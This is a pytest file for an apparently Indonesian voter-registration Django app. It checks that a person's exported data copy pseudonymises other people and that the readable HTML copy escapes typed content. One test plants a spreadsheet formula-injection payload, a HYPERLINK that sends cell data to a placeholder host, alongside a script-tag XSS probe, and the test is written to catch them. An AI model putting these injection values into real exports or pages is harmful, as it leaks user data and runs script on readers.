"""A person's copy holds their own data, and of everyone else only a pseudonym: not through a
related record's name (a visit is named after its pantarlih), not through the invitations
they sent, not through the audit rows of the changes they made to other accounts. And the
readable copy, which Excel opens as a sheet, runs no formula that someone typed."""

import json

import pytest
from auditlog.context import set_actor
from django.urls import reverse

from accounts.models import User
from accounts.tests.factories import UserFactory
from invitations.services import invitation_accept, invitation_create
from privacy.person import pseudonym
from visits.models import AccessIssue, AccessIssueEvent
from visits.tests.factories import VisitFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'


def _copies(client, world, person) -> list[str]:
    """The JSON and the readable HTML copy of `person`, downloaded as KPU Provinsi does."""
    client.force_login(world.kpu_provinsi)
    texts = []
    for name in ("person_json", "person_html"):
        response = client.get(reverse(f"admin:accounts_user_{name}", args=[person.pk]))
        assert response.status_code == 200
        texts.append(response.content.decode())
    return texts


def _named(texts, *values) -> list[str]:
    return [value for value in values for text in texts if value.lower() in text.lower()]


def test_a_managers_copy_does_not_name_the_pantarlih_whose_visit_raised_an_issue(client, world):
    officer = UserFactory(
        role=User.Role.PANTARLIH, full_name="Fitriani Handayani", email="fitriani@uji.coklit.id"
    )
    visit = VisitFactory(pantarlih=officer, building=world.building_a, tower=world.tower_a)
    issue = AccessIssue.objects.create(
        building=world.building_a, visit=visit, kind=AccessIssue.Kind.SECURITY_REFUSED,
        description="Ditolak satpam lobi.", raised_by=officer,
    )  # fmt: skip
    AccessIssueEvent.objects.create(
        issue=issue, actor=world.manager_a, action="manager_reply", level="pps", note="Kami bantu."
    )

    texts = _copies(client, world, world.manager_a)

    assert _named(texts, officer.full_name, officer.email) == []
    assert pseudonym(officer) in texts[0]
    assert json.loads(texts[0])["sections"]  # still the whole copy


def test_the_invitations_a_person_sent_do_not_name_the_people_invited(client, world):
    waiting = invitation_create(
        invited_by=world.kpu_kota_selatan, email="calon.pantarlih@uji.coklit.id",
        full_name="Calon Pantarlih Satu", role="pantarlih", region=world.building_a.kelurahan,
        phone="+6281311112222",
    )  # fmt: skip
    accepted = invitation_create(
        invited_by=world.kpu_kota_selatan, email="sudah.masuk@uji.coklit.id",
        full_name="Sudah Masuk Dua", role="pantarlih", region=world.building_a.kelurahan,
        phone="+6281333334444",
    )  # fmt: skip
    newcomer = User.objects.create_user(
        email=accepted.email, password="kata-sandi-uji-123", full_name=accepted.full_name,
        role="pantarlih", region=world.building_a.kelurahan,
    )  # fmt: skip
    invitation_accept(invitation=accepted, user=newcomer)

    texts = _copies(client, world, world.kpu_kota_selatan)

    assert _named(texts, waiting.email, waiting.full_name, "81311112222",
                  accepted.email, accepted.full_name, "81333334444") == []  # fmt: skip
    sent = next(s for s in json.loads(texts[0])["sections"] if s["key"] == "accounts.invitation")[
        "rows"
    ]
    assert {row["id"] for row in sent} >= {waiting.pk, accepted.pk}
    assert pseudonym(newcomer) in json.dumps(sent, ensure_ascii=False)


def test_the_audit_rows_of_changes_to_other_accounts_do_not_name_them(client, world):
    officer = UserFactory(
        role=User.Role.PANTARLIH, full_name="Nama Lama Petugas", email="lama@uji.coklit.id",
        phone="+6281355556666",
    )  # fmt: skip
    with set_actor(world.kpu_kota_selatan):  # as the admin records a correction
        officer.full_name, officer.phone = "Nama Baru Petugas", "+6281377779999"
        officer.email = "baru@uji.coklit.id"
        officer.save()

    texts = _copies(client, world, world.kpu_kota_selatan)

    assert _named(texts, "Nama Lama Petugas", "Nama Baru Petugas", "lama@uji.coklit.id",
                  "baru@uji.coklit.id", "81355556666", "81377779999") == []  # fmt: skip
    rows = next(s for s in json.loads(texts[0])["sections"] if s["key"] == "audit_by_person")[
        "rows"
    ]
    change = next(row for row in rows if row["record"] == f"accounts.user #{officer.pk}")
    assert change["shown_as"] == pseudonym(officer)
    assert {"full_name", "phone", "email"} <= set(change["changes"])  # what changed, not to what


def test_the_readable_copy_runs_no_formula_a_person_typed(client, world):
    officer = UserFactory(role=User.Role.PANTARLIH, full_name=FORMULA)
    VisitFactory(
        pantarlih=officer, building=world.building_a, tower=world.tower_a,
        note="+1+1 <script>alert(1)</script>",
    )  # fmt: skip

    json_text, html = _copies(client, world, officer)

    assert "<td>=" not in html and "<td>+" not in html
    assert "<td>&#x27;=HYPERLINK(" in html and "<td>&#x27;+1+1 &lt;script&gt;" in html
    assert "<script>" not in html
    # The JSON is the data as stored: exact, and a string in JSON is never a formula.
    data = json.loads(json_text)
    assert data["person"]["name"] == FORMULA
